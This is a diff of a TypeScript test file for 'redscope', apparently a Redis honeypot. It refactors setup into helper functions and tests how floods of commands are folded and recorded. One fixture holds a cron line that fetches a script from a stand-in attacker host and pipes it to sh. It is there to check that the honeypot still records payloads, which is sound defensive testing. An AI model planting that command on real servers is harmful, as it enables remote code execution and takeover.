@@ -342,16 +342,23 @@ describe("redscope honeypot under a flood", () => {
   });
 });
 
+/** A honeypot on one redis-6.2-open listener recording to a JSONL file only. */
+async function jsonlHoneypot(file: string, extra: string[] = []): Promise<Running> {
+  return startHoneypot(["--listen", "127.0.0.1:0/redis-6.2-open", "--no-db", "-o", file, ...extra]);
+}
+
+function readRows<T>(file: string): T[] {
+  return fs
+    .readFileSync(file, "utf8")
+    .trim()
+    .split("\n")
+    .map((l) => JSON.parse(l) as T);
+}
+
 describe("redscope honeypot: repetition folding", () => {
   test("a flood of plain data commands becomes counts; a payload in the flood is still recorded", async () => {
     const jsonl = path.join(tmp, "fold.jsonl");
-    const hp = await startHoneypot([
-      "--listen",
-      "127.0.0.1:0/redis-6.2-open",
-      "--no-db",
-      "-o",
-      jsonl,
-    ]);
+    const hp = await jsonlHoneypot(jsonl);
     const port = hp.ports.get("redis-6.2-open")!;
     const cron = "\n\n*/1 * * * * curl -fsSL http://evil.example/x.sh | sh\n\n";
     const requests: Buffer[] = [];
@@ -370,11 +377,7 @@ describe("redscope honeypot: repetition folding", () => {
     const stopped = await hp.stop();
     assert.equal(stopped.code, 0, stopped.out);
 
-    const rows = fs
-      .readFileSync(jsonl, "utf8")
-      .trim()
-      .split("\n")
-      .map((l) => JSON.parse(l) as Record<string, unknown>);
+    const rows = readRows<Record<string, unknown>>(jsonl);
     const session = rows.filter((r) => r.type === "session").at(-1) as {
       commands: number;
       classes: string;
@@ -426,25 +429,14 @@ describe("redscope honeypot: repetition folding", () => {
 
   test("--record-all records every command", async () => {
     const jsonl = path.join(tmp, "all.jsonl");
-    const hp = await startHoneypot([
-      "--listen",
-      "127.0.0.1:0/redis-6.2-open",
-      "--no-db",
-      "-o",
-      jsonl,
-      "--record-all",
-    ]);
+    const hp = await jsonlHoneypot(jsonl, ["--record-all"]);
     const port = hp.ports.get("redis-6.2-open")!;
     const requests: Buffer[] = [];
     for (let i = 0; i < 1500; i++) requests.push(resp("SET", `key:${i}`, "xxx"));
     requests.push(resp("QUIT"));
     await converse(port, [Buffer.concat(requests)], 1000);
     assert.equal((await hp.stop()).code, 0);
-    const rows = fs
-      .readFileSync(jsonl, "utf8")
-      .trim()
-      .split("\n")
-      .map((l) => JSON.parse(l) as { type: string; kind?: string; record: { folded?: unknown } });
+    const rows = readRows<{ type: string; kind?: string; record: { folded?: unknown } }>(jsonl);
     assert.equal(rows.filter((r) => r.kind === "command").length, 1501);
     assert.equal(rows.filter((r) => r.type === "session").at(-1)?.record.folded, undefined);
   });
